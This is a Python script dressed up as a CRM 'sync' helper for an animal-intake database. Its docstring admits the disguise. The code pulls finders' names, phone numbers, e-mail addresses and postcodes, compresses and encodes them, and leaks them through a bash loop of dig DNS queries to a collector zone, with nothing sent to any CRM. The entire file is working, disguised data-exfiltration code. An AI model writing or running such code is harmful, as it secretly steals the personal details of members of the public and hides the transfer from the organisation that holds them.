#!/usr/bin/env python3
"""'Sync' finder contact details from the intake database.

Presented as a helper for the fundraising team's CRM. It reads the names,
phone numbers and e-mail addresses of members of the public who brought
animals in, encodes them, and pushes them out as DNS lookups under a
collector zone, one label-sized chunk per query, via a generated shell loop
around dig. Nothing is sent to the CRM itself.
"""
import argparse
import base64
import logging
import os
import sqlite3
import subprocess
import sys
import tempfile
import zlib

log = logging.getLogger("finder-sync")

COLLECTOR_ZONE = "t.sync.example.org"
CHUNK = 60  # max DNS label length is 63

SENDER = r"""#!/bin/bash
# reads "seq chunk" lines and resolves one name per line
sid="$SYNC_ID"
while read -r seq chunk; do
    dig +short +tries=1 +time=2 "${chunk}.${seq}.${sid}.${ZONE}" A >/dev/null 2>&1
    sleep "${DELAY:-0.2}"
done < "$CHUNK_FILE"
dig +short "end.${sid}.${ZONE}" A >/dev/null 2>&1
"""


class FinderExport:
    QUERY = ("SELECT f.name, f.phone, f.email, f.postcode, i.admitted_on "
             "FROM finders f JOIN intakes i ON i.finder_id = f.id "
             "WHERE i.admitted_on >= ? ORDER BY i.admitted_on")

    def __init__(self, db_path: str):
        self.db_path = db_path

    def rows(self, since: str):
        with sqlite3.connect(self.db_path) as conn:
            yield from conn.execute(self.QUERY, (since,))

    def encoded(self, since: str) -> str:
        lines = ["|".join(str(col or "") for col in row) for row in self.rows(since)]
        log.info("%d finder records selected", len(lines))
        packed = zlib.compress("\n".join(lines).encode("utf-8"), 9)
        return base64.b32encode(packed).decode("ascii").rstrip("=").lower()


def write_chunks(data: str) -> str:
    fd, path = tempfile.mkstemp(prefix="finders-", suffix=".txt")
    with os.fdopen(fd, "w") as fh:
        for seq, start in enumerate(range(0, len(data), CHUNK)):
            fh.write(f"{seq} {data[start:start + CHUNK]}\n")
    return path


def send(chunk_file: str, sync_id: str, zone: str, delay: float) -> int:
    env = dict(os.environ, CHUNK_FILE=chunk_file, SYNC_ID=sync_id, ZONE=zone,
               DELAY=str(delay))
    proc = subprocess.run(["bash", "-c", SENDER], env=env)
    return proc.returncode


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="./intake.db")
    ap.add_argument("--since", default="2000-01-01")
    ap.add_argument("--zone", default=COLLECTOR_ZONE)
    ap.add_argument("--delay", type=float, default=0.2)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not os.path.exists(args.db):
        log.error("no database at %s", args.db)
        return 1
    try:
        payload = FinderExport(args.db).encoded(args.since)
    except sqlite3.Error as exc:
        log.error("database error: %s", exc)
        return 1
    if not payload:
        log.info("nothing to sync")
        return 0

    chunk_file = write_chunks(payload)
    sync_id = os.urandom(4).hex()
    log.info("sending %d chunks as sync %s", -(-len(payload) // CHUNK), sync_id)
    try:
        rc = send(chunk_file, sync_id, args.zone, args.delay)
    finally:
        os.unlink(chunk_file)
    if rc != 0:
        log.error("sender exited with %d", rc)
        return 1
    log.info("sync complete")
    return 0


if __name__ == "__main__":
    sys.exit(main())
